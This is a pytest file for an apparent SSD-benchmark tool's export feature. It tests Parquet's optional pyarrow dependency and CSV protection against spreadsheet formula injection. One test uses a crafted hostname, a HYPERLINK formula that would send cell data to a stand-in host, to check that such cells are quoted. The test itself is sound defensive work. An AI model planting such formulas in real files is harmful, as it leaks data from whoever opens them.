"""Export: Parquet needs pyarrow, an optional extra (without it the message says how to get it);
CSV never carries a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import importlib.util
import json
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from ssdcompare.analysis.export import _formula_safe, export
from ssdcompare.analysis.frame import load
from ssdcompare.errors import SsdcompareError

ROOT = Path(__file__).parent.parent
EXAMPLE = ROOT / "examples" / "results" / "ramdisk-vs-loop"
INSTALL = "pip install 'ssdcompare[parquet]'"


@pytest.fixture
def without_pyarrow(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make the Parquet writers fail to import, as when pyarrow is not installed.

    Where pyarrow is installed pandas has already imported it for its string columns, so only
    its Parquet module is blocked there; otherwise pyarrow itself is.
    """
    blocked = ["pyarrow.parquet", "fastparquet"]
    if "pyarrow" not in sys.modules:
        blocked.append("pyarrow")
    for name in blocked:
        monkeypatch.setitem(sys.modules, name, None)


@pytest.mark.usefixtures("without_pyarrow")
def test_parquet_without_pyarrow_names_the_extra(tmp_path: Path) -> None:
    target = tmp_path / "results.parquet"
    with pytest.raises(SsdcompareError) as caught:
        export([EXAMPLE], target)
    assert INSTALL in str(caught.value) and "pyarrow" in str(caught.value)
    assert not target.exists() and list(tmp_path.iterdir()) == []


@pytest.mark.usefixtures("without_pyarrow")
def test_the_command_line_says_it_too(tmp_path: Path, run_cli: Callable[..., object]) -> None:
    done = run_cli("export", str(EXAMPLE), "-o", str(tmp_path / "results.parquet"))
    assert done.exit_code != 0  # type: ignore[attr-defined]
    assert INSTALL in done.stderr  # type: ignore[attr-defined]
    assert "Traceback" not in done.stderr  # type: ignore[attr-defined]


def test_parquet_with_pyarrow_keeps_every_row_and_column(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    target = tmp_path / "results.parquet"
    rows = export([EXAMPLE], target)
    back = pd.read_parquet(target)
    frame = load(EXAMPLE)
    assert rows == len(back) == len(frame)
    assert list(back.columns) == list(frame.columns)


def test_the_parquet_extra_is_declared() -> None:
    tomllib = pytest.importorskip("tomllib")  # Python 3.11 and later
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    extra = project["optional-dependencies"]["parquet"]
    assert any(requirement.startswith("pyarrow>=") for requirement in extra)


def test_csv_cells_that_would_be_formulas_are_quoted_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    copy = tmp_path / "results"
    shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns(".cache"))
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["host"]["hostname"] = formula  # a crafted hostname in someone's results
    (copy / "manifest.json").write_text(json.dumps(manifest))
    target = tmp_path / "results.csv"
    export([copy], target)
    rows = list(csv.DictReader(target.open(newline="")))
    assert {row["host"] for row in rows} == {"'" + formula}
    # numbers are written as numbers (sync rows: fsync calls have no rate)
    assert all(float(row["iops"]) > 0 for row in rows if row["direction"] != "sync")
    for summary in (False, True):
        export([copy], tmp_path / "s.csv", summary)
        text = (tmp_path / "s.csv").read_text()
        assert '"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    # every text cell a spreadsheet would start a formula with; numeric columns untouched
    cells = ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "plain", None]
    safe = _formula_safe(pd.DataFrame({"text": cells, "number": [-1.5] * len(cells)}))
    quoted = ["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "plain"]
    assert safe["text"].tolist()[:-1] == quoted and pd.isna(safe["text"].iloc[-1])
    assert safe["number"].tolist() == [-1.5] * len(cells)
    if importlib.util.find_spec("pyarrow") is not None:  # Parquet keeps values as they are
        export([copy], tmp_path / "results.parquet")
        assert set(pd.read_parquet(tmp_path / "results.parquet")["host"]) == {formula}
